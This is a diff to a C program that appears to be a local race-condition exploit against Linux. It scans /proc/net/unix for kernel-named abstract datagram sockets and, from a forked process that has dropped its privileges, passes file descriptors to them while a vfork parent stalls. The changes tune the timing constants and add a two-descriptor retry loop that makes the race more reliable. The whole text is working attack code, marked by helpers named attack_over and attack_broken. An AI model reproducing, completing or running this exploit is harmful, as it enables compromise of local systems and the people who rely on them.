@@ -7,8 +7,9 @@
 #include <sys/socket.h>
 #include <sys/un.h>
 
-#define LINGER 20   // seconds
-#define TOO_LONG 12 // seconds: above the time for which an asker waits for an answer
+#define LINGER 7   // seconds
+#define TOO_LONG 6 // seconds: an asker waits for one second if the process that is asked does not run
+#define MANY 2     // the last close is the sender's where the asker is faster
 
 static struct sockaddr_in here;
 static int listener;
@@ -56,27 +57,36 @@ static int send_to(const char *name, int fd) {
     return sent;
 }
 
-static void send_to_all(void *unused) {
-    (void)unused;
-    int fd = slow_to_close();
+// The name of a listener of packets whose name is the kernel's choice. Whether there is one.
+static int find_listener(char name[8]) {
+    FILE *f = fopen("/proc/net/unix", "re");
+    char line[512];
+    int found = 0;
+    while (f && !found && fgets(line, sizeof line, f)) // Num RefCount Protocol Flags Type St Inode Path
+        found = sscanf(line, "%*s %*s %*s 00010000 0005 %*s %*s @%5s", name) == 1 && strlen(name) == 5;
+    if (f)
+        fclose(f);
+    return found;
+}
+
+static void send_to_all(void) {
     while (!attack_over()) {
-        FILE *f = fopen("/proc/net/unix", "re");
-        char line[512], name[8];
-        while (f && fgets(line, sizeof line, f))
-            // Num RefCount Protocol Flags Type St Inode Path: a listener of packets, with a name of the kernel's choice
-            if (sscanf(line, "%*s %*s %*s 00010000 0005 %*s %*s @%5s", name) == 1 && strlen(name) == 5 &&
-                send_to(name, fd)) {
-                close(fd);
-                pause(); // one is enough
+        int fd[MANY], sent = 0;
+        char name[8];
+        for (int i = 0; i < MANY; i++)
+            fd[i] = slow_to_close();
+        while (!sent && !attack_over())
+            for (int i = 0; i < MANY && find_listener(name); i++) {
+                sent += send_to(name, fd[i]);
+                if (sent)
+                    close(fd[i]);
             }
-        if (f)
-            fclose(f);
+        usleep(800000);
     }
 }
 
 // Is asked, and answers late: the parent of a vfork.
-static void answers_late(void *unused) {
-    (void)unused;
+static void answers_late(void) {
     if (vfork() == 0) {
         sleep(100);
         _exit(0);
@@ -88,13 +98,13 @@ int main(void) {
     pid_t asked, sender;
     listen_here();
     if ((asked = fork()) == 0) {
-        answers_late(NULL);
+        answers_late();
         _exit(0);
     }
     if ((sender = fork()) == 0) {
         if (getuid() == 0 && setresuid(1000, 1000, 1000) < 0)
             attack_broken("setresuid");
-        send_to_all(NULL);
+        send_to_all();
         _exit(0);
     }
     snprintf(path, sizeof path, "/proc/%d/fd/0", (int)asked);
